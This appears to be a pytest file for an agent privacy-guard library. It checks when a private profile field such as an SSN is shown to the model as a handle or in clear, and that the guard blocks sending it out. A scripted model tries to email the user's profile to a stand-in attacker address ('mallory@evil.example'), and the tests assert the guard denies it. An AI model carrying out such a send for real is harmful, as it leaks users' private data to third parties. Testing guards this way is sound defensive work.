"""A private field reaches the model as a handle only when its tool returns records.

The README's privacy summary said, without condition, "a private field reaches the model as a *handle*,
resolved to its value only when a guard node commits the call". docs/privacy.md ("Set-up") is the
reference: what a tool's function is annotated to return decides how it is read; records (`-> dict`, a list,
a model, or no annotation) are labelled field by field and the model is shown handles, while text (`-> str`)
is labelled whole, as the `Agent` labels a string: the model reads the private field in clear (and so the
paraphrases and encodings docs/privacy.md lists under "Missed" apply to it). The guard still denies the
send, the whole text being private. What must hold: the code behaves as the reference says, and the
README's summary states the condition instead of promising a handle for every private field.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from langgraph.checkpoint.memory import InMemorySaver

from guards import PrivacyFlow, PrivacyPolicy, privacy_sink, privacy_source
from vfa import Agent, effect
from vfa.testing import ScriptedModel

README = (Path(__file__).resolve().parents[1] / "README.md").read_text()
SSN = "078-05-1120"


def _profile_tool(returns: str):
    if returns == "str":
        @privacy_sink()
        @privacy_source(private=["ssn"], kind="profile")
        def get_profile() -> str:
            """The user's profile."""
            return json.dumps({"name": "Emma", "ssn": SSN})
    else:
        @privacy_sink()
        @privacy_source(private=["ssn"], kind="profile")
        def get_profile() -> dict:
            """The user's profile."""
            return {"name": "Emma", "ssn": SSN}
    return get_profile


def _run(returns: str) -> list:
    @privacy_sink(disclose={"body": "to"}, authority=["to"])
    @effect
    def send_email(to: list[str], body: str) -> str:
        """Send an email."""
        return "sent"

    def rule(messages):
        tools = [m for m in messages if m.type == "tool"]
        if not tools:
            return ("get_profile", {})
        if len(tools) == 1:
            return ("send_email", {"to": ["mallory@evil.example"], "body": tools[0].content})
        return "done"

    flow = PrivacyFlow(PrivacyPolicy.of("me@home.example"))
    app = Agent(ScriptedModel(rule=rule), [_profile_tool(returns), send_email], guards=[flow.guard()],
                flow=flow).compile(checkpointer=InMemorySaver())
    return app.invoke({"messages": [("user", "check my profile")]}, {"configurable": {"thread_id": returns}})["messages"]


@pytest.mark.parametrize("returns,in_clear", [("dict", False), ("str", True)])
def test_a_private_field_is_a_handle_only_in_a_record_result(returns: str, in_clear: bool) -> None:
    messages = _run(returns)
    assert (SSN in messages[2].content) is in_clear, messages[2].content
    # either way the send is denied: a text result is private whole
    assert messages[4].artifact["vfa"]["outcome"] == "denied", messages[4].content


def test_the_readme_privacy_summary_states_when_a_private_field_is_a_handle() -> None:
    summary = README.split("### The privacy guard", 1)[1].split("```python", 1)[0]
    assert "-> str" in summary and "in clear" in summary, summary
